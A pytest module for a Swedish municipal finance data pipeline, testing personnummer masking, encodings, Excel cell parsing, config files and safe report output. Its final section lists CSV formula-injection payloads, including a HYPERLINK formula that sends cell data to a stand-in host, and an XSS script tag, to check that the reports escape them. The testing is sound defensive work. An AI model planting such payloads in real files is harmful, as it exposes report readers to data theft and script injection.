"""Files as a new municipality's staff deliver them (saved from Excel, pasted from PDFs, renamed
by hand), each class of the second hardening round held at its root: personnummer in every
separator and encoding, UTF-16 known by its BOM, spreadsheet cells as Excel shows them, no
column dropped, file names, config files as CSV, duplicates as row rejects, and output that
never becomes a formula. The corpus (tests/corpus/) lands the same kinds through `ifo run`."""

from __future__ import annotations

import codecs
import random
import unicodedata
from contextlib import closing
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from stdnum import luhn

from ifo_pipeline.ingest import load_source, load_volumes
from ifo_pipeline.ingest.column_map import read_column_map
from ifo_pipeline.ingest.csv_loader import load_file
from ifo_pipeline.ingest.lifecycle import the_year_in
from ifo_pipeline.ingest.volumes import Catalogue, load_volume_file
from ifo_pipeline.privacy import MASK
from ifo_pipeline.reporting.content import Chart, MonthReport, Section, Series, Table
from ifo_pipeline.reporting.html import render_html
from ifo_pipeline.reporting.workbook import write_workbook
from ifo_pipeline.sample.generator import fake_personnummer
from ifo_pipeline.store.archive import archive_name, inspect_and_archive
from ifo_pipeline.store.fileinfo import FileRejected, inspect_file
from ifo_pipeline.store.sources import (
    BUDGET,
    GOAL_INDICATORS,
    LEDGER,
    MEASURE_STATUS,
    MEASURES,
)
from ifo_pipeline.store.warehouse import connect
from ifo_pipeline.validation.schemas import SCHEMAS, validate_table
from tests.conftest import reject_reasons, write_text
from tests.test_ledger_loading import HEADER

# --- personnummer: every separator the contract names, in every encoding --------------------

# A made-up number with a valid check digit (the repository holds no real one).
MADE_UP = fake_personnummer(random.Random(29))
NNBSP = "\u202f"

# docs/inputs.md, personal data and Swedish numbers: `-`, `+`, a space, the no-break spaces U+00A0
# and U+202F, an en dash, or nothing. Listed here from the contract, not from the code.
CONTRACT_SEPARATORS = ["-", "+", " ", "\u00a0", "\u202f", "\u2013", ""]
# What a delivered text file can be: the two the contract names, and Excel's Unicode text.
ENCODINGS = ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-be", "utf-32"]


@st.composite
def personnummer(draw) -> str:
    """A valid personnummer or samordningsnummer (date, Luhn) in one of the written forms."""
    year = draw(st.integers(1900, 2025))
    month = draw(st.integers(1, 12))
    day = draw(st.integers(1, 28)) + (60 if draw(st.booleans()) else 0)
    serial = draw(st.integers(0, 999))
    stem = f"{year % 100:02d}{month:02d}{day:02d}{serial:03d}"
    tail = f"{serial:03d}{luhn.calc_check_digit(stem)}"
    date = f"{year}{month:02d}{day:02d}" if draw(st.booleans()) else stem[:6]
    return date + draw(st.sampled_from(CONTRACT_SEPARATORS)) + tail


def encoded(text: str, encoding: str) -> bytes:
    if encoding == "utf-16-be":  # with its BOM, as a program writing big-endian does
        return codecs.BOM_UTF16_BE + text.encode("utf-16-be")
    return text.encode(encoding)


@hypothesis_settings(
    max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    number=personnummer(),
    encoding=st.sampled_from(ENCODINGS),
    before=st.sampled_from(["", "Ersättning ", "klient: ", "(", '"']),
    after=st.sampled_from(["", " avser mars", ")", ";x", '"']),
)
def test_a_personnummer_never_reaches_the_archive_in_any_form_or_encoding(
    tmp_path_factory, number, encoding, before, after
):
    text = f"Period;Text\n201903;{before}{number}{after}\n"
    try:
        data = encoded(text, encoding)
    except UnicodeEncodeError:  # Windows-1252 has no U+202F: no such file exists
        return
    folder = tmp_path_factory.mktemp("pnr")
    path = folder / "ledger.csv"
    path.write_bytes(data)
    info, archived = inspect_and_archive(path, "ledger", folder / "archive")
    kept = archived.path.read_bytes().decode(info.encoding)
    assert number not in kept
    assert MASK in kept
    assert kept.replace(MASK, "XXX").count("201903") == 1  # the rest of the line is kept


def test_a_personnummer_split_by_a_narrow_no_break_space_is_masked_in_every_table(
    con, settings, tmp_path
):
    path = write_text(
        tmp_path / "ledger" / "smalt.csv",
        HEADER + f"201903;5310;4630;56910;;;;1,00;V1;;Klient {MADE_UP.replace('-', NNBSP)} mars\n",
    )
    assert load_file(con, LEDGER, path, settings.archive_dir).outcome == "loaded"
    assert con.execute("SELECT text FROM raw.ledger_lines").fetchone()[0] == f"Klient {MASK} mars"


# --- encodings: UTF-16 known by its BOM ------------------------------------------------------


def test_excels_unicode_text_loads_as_utf16_with_tabs(con, settings, tmp_path):
    """Excel's "Unicode text": UTF-16 LE with BOM, tab-separated, a field with a tab quoted."""
    lines = [
        HEADER.replace(";", "\t"),
        '201903\t5310\t4630\t56910\t\t\t\t-1 234,50\tV1\t\t"Hyra\tmars"\n',
        "201903\t5310\t4630\t56910\t\t\t\t10 000,00\tV2\t\tÅterbetalning\n",
    ]
    path = tmp_path / "ledger" / "unicode_text.csv"
    path.parent.mkdir(parents=True)
    path.write_bytes("".join(lines).encode("utf-16"))
    loaded = load_file(con, LEDGER, path, settings.archive_dir)
    assert loaded.outcome == "loaded", loaded.message
    assert con.execute("SELECT encoding FROM ops.load_log").fetchone()[0] == "utf-16"
    assert con.execute(
        "SELECT text, belopp FROM raw.ledger_lines ORDER BY line_number"
    ).fetchall() == [
        ("Hyra\tmars", Decimal("-1234.50")),
        ("Återbetalning", Decimal("10000.00")),
    ]
    assert con.execute("SELECT difference FROM ops.reconciliation").fetchone()[0] == 0


@pytest.mark.parametrize(
    "data, words",
    [
        ("Period\tAnsvar\n".encode("utf-16") + b"\x00\xd8A\x00", "not UTF-16"),  # half a pair
        ("Period\tAnsvar\n".encode("utf-16") + b"A", "ends inside a UTF-16 character"),
        (codecs.BOM_UTF16_LE, "the file is empty"),
        ("Period\n\ufffd\n".encode("utf-32"), "U+FFFD"),
    ],
)
def test_a_broken_wide_file_is_refused_naming_its_encoding(tmp_path, data, words):
    path = tmp_path / "trasig.csv"
    path.write_bytes(data)
    with pytest.raises(FileRejected) as refused:
        inspect_file(path)
    assert words in str(refused.value)
    assert "known by its byte order mark" in str(refused.value)


# --- spreadsheet cells as Excel shows them ---------------------------------------------------


def volume_workbook(path: Path, header: list, rows: list[list], percent: set[str] = frozenset()):
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Missbruk"
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    for address in percent:
        sheet[address].number_format = "0%"
    path.parent.mkdir(parents=True, exist_ok=True)
    workbook.save(path)
    return path


MONTHS_EN = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]


def load_volumes_of(settings) -> tuple[list, list[str]]:
    load_volumes(settings)
    with closing(connect(settings.warehouse_path)) as con:
        cells = con.execute(
            """SELECT manad, ratt_text, varde, andel FROM raw.volume_cells
               WHERE ratt_text IS NOT NULL ORDER BY manad"""
        ).fetchall()
        return cells, reject_reasons(con)


def test_a_formula_never_calculated_is_a_reject_naming_sheet_and_cell(settings):
    volume_workbook(
        settings.landing_dir / "verksamhetsmatt" / "verksamhetsmatt_2019.xlsx",
        ["Missbruk", *MONTHS_EN],
        [["Antal pågående ärenden", 160, "=B2+1", 150]],
    )
    cells, reasons = load_volumes_of(settings)
    assert [c[:2] for c in cells] == [(1, "160"), (3, "150")]
    assert len(reasons) == 1
    assert reasons[0].startswith("Missbruk!C2, ")
    assert "=B2+1 has no calculated value" in reasons[0]


def test_a_percentage_typed_in_excel_is_a_share(settings):
    volume_workbook(
        settings.landing_dir / "verksamhetsmatt" / "verksamhetsmatt_2019.xlsx",
        ["Missbruk", *MONTHS_EN],
        [["Andel nöjda", 0.92, 0.875, 1]],
        percent={"B2", "C2", "D2"},
    )
    cells, reasons = load_volumes_of(settings)
    assert reasons == []
    assert cells == [(1, "92%", None, 0.92), (2, "87,5%", None, 0.875), (3, "100%", None, 1.0)]


def test_english_and_dated_month_headers_load_every_month(settings):
    folder = settings.landing_dir / "verksamhetsmatt"
    write_text(
        folder / "verksamhetsmatt_2019.csv",
        "Avsnitt;Matt;" + ";".join(MONTHS_EN) + "\n"
        "Missbruk;Antal pågående ärenden;" + ";".join(str(n) for n in range(1, 13)) + "\n",
    )
    cells, reasons = load_volumes_of(settings)
    assert reasons == [] and [c[0] for c in cells] == list(range(1, 13))
    volume_workbook(
        folder / "verksamhetsmatt_2018.xlsx",
        ["Missbruk", *(datetime(2018, m, 1) for m in range(1, 13))],
        [["Antal pågående ärenden", *range(101, 113)]],
    )
    with closing(connect(settings.warehouse_path)) as con:
        load_volume_file(
            con, folder / "verksamhetsmatt_2018.xlsx", settings.archive_dir, Catalogue.load()
        )
        assert (
            con.execute(
                "SELECT count(*) FROM raw.volume_cells WHERE ar = 2018 AND varde IS NOT NULL"
            ).fetchone()[0]
            == 12
        )


@pytest.mark.parametrize(
    "header, words",
    [
        (["Jan", "Feb", "Q1"], "name no month: Q1"),
        (["Jan", "Feb", "Jan"], "names month 1 twice"),
    ],
)
def test_a_column_is_never_dropped_without_a_word(settings, header, words):
    write_text(
        settings.landing_dir / "verksamhetsmatt" / "verksamhetsmatt_2019.csv",
        "Avsnitt;Matt;" + ";".join(header) + "\nMissbruk;Antal pågående ärenden;1;2;3\n",
    )
    loads = load_volumes(settings)
    assert loads[0].outcome == "rejected"
    assert words in loads[0].message


def test_a_total_beside_the_months_is_not_a_month_and_not_a_refusal(settings):
    write_text(
        settings.landing_dir / "verksamhetsmatt" / "verksamhetsmatt_2019.csv",
        "Avsnitt;Matt;Jan;Feb;Summa\nMissbruk;Antal pågående ärenden;1;2;3\n",
    )
    cells, reasons = load_volumes_of(settings)
    assert reasons == [] and [c[:2] for c in cells] == [(1, "1"), (2, "2")]


# --- file names --------------------------------------------------------------------------------


def test_a_file_name_of_250_bytes_loads(con, settings, tmp_path):
    name = "huvudbok_" + "å" * 118 + ".csv"  # 2 bytes a letter: 249 bytes
    assert 245 < len(name.encode()) <= 255
    path = write_text(tmp_path / "ledger" / name, HEADER + "201903;5310;4630;56910;;;;1,00;;;\n")
    loaded = load_file(con, LEDGER, path, settings.archive_dir)
    assert loaded.outcome == "loaded", loaded.message


def test_a_masked_name_longer_than_the_file_system_takes_is_shortened_keeping_its_suffix():
    digits = MADE_UP.replace("-", "")
    name = f"{digits}_" * 21 + ".csv"  # 235 bytes; each masked number is four bytes longer
    shortened = archive_name(name)
    assert len(shortened.encode()) <= 255 and shortened.endswith("~.csv")
    assert digits not in shortened


@pytest.mark.parametrize(
    "name, year",
    [
        ("kommunbidrag 2019.csv", 2019),
        ("2018-11-26 kommunbidrag 2019.csv", None),
        ("kommunbidrag_2019_rev_20181126.csv", None),
        ("kommunbidrag 2018-2019.csv", None),
        ("kommunbidrag.csv", None),
    ],
)
def test_a_name_with_a_date_or_several_years_does_not_decide_the_year(name, year):
    assert the_year_in(name) == year


def test_a_budget_named_with_the_date_it_was_made_loads_its_year(con, settings, tmp_path):
    path = write_text(
        tmp_path / "budget" / "2018-11-26 kommunbidrag 2019.csv",
        "Period;Ansvar;Verksamhet;Kommunbidrag\n201901;5310;56910;100 000\n"
        "201902;5310;56910;100 000\n",
    )
    loaded = load_file(con, BUDGET, path, settings.archive_dir)
    assert (loaded.outcome, loaded.rows_loaded, loaded.rows_rejected) == ("loaded", 2, 0)


# --- config files are CSV too --------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252", "utf-16"])
def test_the_column_mapping_is_read_with_the_loaders_csv_rules(settings, encoding):
    # Pasted from a PDF: the ring apart from its letter (NFD), where the encoding has it.
    area = "Ansvarsområde" if encoding == "cp1252" else "Ansvarsomra\u030ade"
    write_text(
        settings.landing_dir / "config" / "kolumnmappning.csv",
        f'Exportkolumn;Kolumn\n"Belopp; SEK";Belopp\n"Ansvar ""nytt""";Ansvar\n{area};Ansvar\n',
        encoding,
    )
    mapping = read_column_map(settings.landing_dir)
    assert mapping == {"beloppsek": "Belopp", "ansvarnytt": "Ansvar", "ansvarsomrade": "Ansvar"}


def test_a_measure_name_pasted_from_a_pdf_is_stored_as_typed(con, settings, tmp_path):
    """NFD (a letter and its accent apart) is stored NFC: it matches the catalogue's name."""
    name = "Antal placeringar HVB tonåringar"
    path = write_text(
        tmp_path / "config" / "atgarder.csv",
        "Id;Omrade;Atgard;Rapportrad;Matt;Malforandring;Enhetskostnad;Baslinje;Start\n"
        f"BU-1;Barn;Minska;Barn och unga;{unicodedata.normalize('NFD', name)};-3;1 600 000;"
        "201901-201909;201910\n",
    )
    assert load_file(con, MEASURES, path, settings.archive_dir).outcome == "loaded"
    assert con.execute("SELECT matt FROM raw.measures").fetchone()[0] == name


# --- one bad config row never stops the night -----------------------------------------------------


@pytest.mark.parametrize(
    "source, name, text, query, kept, reason",
    [
        (
            MEASURES,
            "atgarder.csv",
            "Id;Atgard;Baslinje;Start\nBU-1;Först;;201910\nBU-2;Annan;;201910\n"
            "BU-1;Sedan;;201911\n",
            "SELECT atgard_id, atgard FROM raw.measures ORDER BY 1",
            [("BU-1", "Sedan"), ("BU-2", "Annan")],
            "atgard_id BU-1 appears again on line 4: the later line is loaded",
        ),
        (
            GOAL_INDICATORS,
            "malindikatorer.csv",
            "Id;Indikator;Kalla;Berakning;Mal;Riktning\n"
            "FS-1;Först;kolada:N30001;varde;0;lagre\nFS-1;Sedan;kolada:N30001;varde;1;lagre\n",
            "SELECT indikator_id, indikator FROM raw.goal_indicators",
            [("FS-1", "Sedan")],
            "indikator_id FS-1 appears again on line 3",
        ),
    ],
)
def test_a_duplicated_id_keeps_the_later_row_and_rejects_the_earlier(
    con, settings, tmp_path, source, name, text, query, kept, reason
):
    path = write_text(tmp_path / "config" / name, text)
    loaded = load_file(con, source, path, settings.archive_dir)
    assert loaded.outcome == "loaded_with_rejects"
    assert con.execute(query).fetchall() == kept
    assert reason in reject_reasons(con)[0]
    assert validate_table(con, source.table, SCHEMAS[source.table]).passed


def test_a_status_reported_twice_for_a_month_keeps_the_later(con, settings, tmp_path):
    write_text(
        tmp_path / "config" / "atgarder.csv", "Id;Atgard;Baslinje;Start\nBU-1;Minska;;201910\n"
    )
    load_file(con, MEASURES, tmp_path / "config" / "atgarder.csv", settings.archive_dir)
    path = write_text(
        tmp_path / "config" / "atgardsstatus.csv",
        "Manad;Id;Status\n201910;BU-1;planerad\n201910;BU-1;pågående\n201911;BU-1;pågående\n",
    )
    assert load_file(con, MEASURE_STATUS, path, settings.archive_dir).rows_rejected == 1
    assert con.execute(
        "SELECT manad, status FROM raw.measure_status ORDER BY manad"
    ).fetchall() == [(201910, "pågående"), (201911, "pågående")]
    assert validate_table(con, MEASURE_STATUS.table, SCHEMAS[MEASURE_STATUS.table]).passed


def test_a_refused_file_does_not_hold_back_another_sources_load(settings):
    """The ledger loads whatever the budget folder holds (a refused file is its own verdict)."""
    write_text(settings.landing_dir / "budget" / "trasig.csv", "Period;Ansvar\n\x81\n", "latin-1")
    write_text(
        settings.landing_dir / "ledger" / "huvudbok.csv",
        HEADER + "201903;5310;4630;569;;;;1,00;;;\n",
    )
    assert [f.outcome for f in load_source(settings, BUDGET)] == ["rejected"]
    assert [f.outcome for f in load_source(settings, LEDGER)] == ["loaded"]


# --- output that cannot be turned against its reader ---------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"Klicka")',
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
]


def hostile_report() -> MonthReport:
    table = Table(
        key="Resultat",
        title="Resultat",
        columns=("Rapportrad", "Nettokostnad"),
        formats=("text", "tkr"),
        rows=[(label, Decimal(-1000)) for label in HOSTILE],
        notes=["=1+1 en anteckning"],
    )
    chart = Chart(
        key="Resultat",
        title="Resultat",
        kind="bar",
        categories=HOSTILE,
        series=[Series("=serie()", [1.0] * len(HOSTILE))],
        unit="tkr",
    )
    return MonthReport(
        2019,
        3,
        "Månadsrapport",
        "Jan-Mar 19",
        [Section("Resultat", [table], [chart])],
        datetime(2019, 4, 5),
    )


def test_no_text_from_data_becomes_a_formula_in_the_workbook(tmp_path):
    path = write_workbook(hostile_report(), tmp_path / "rapport.xlsx")
    book = load_workbook(path)
    hostile = {label.replace("\r", "\n") for label in HOSTILE}  # XML reads a CR as a LF
    seen = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value in hostile:
                    seen += 1
                    if cell.value[0] in "=+-@\t\n":
                        assert cell.quotePrefix, (sheet.title, cell.coordinate)
    assert seen == 2 * len(HOSTILE)  # the table's labels and the chart's categories, as text


def test_labels_are_escaped_in_the_html_report():
    page = render_html(hostile_report())
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;" in page
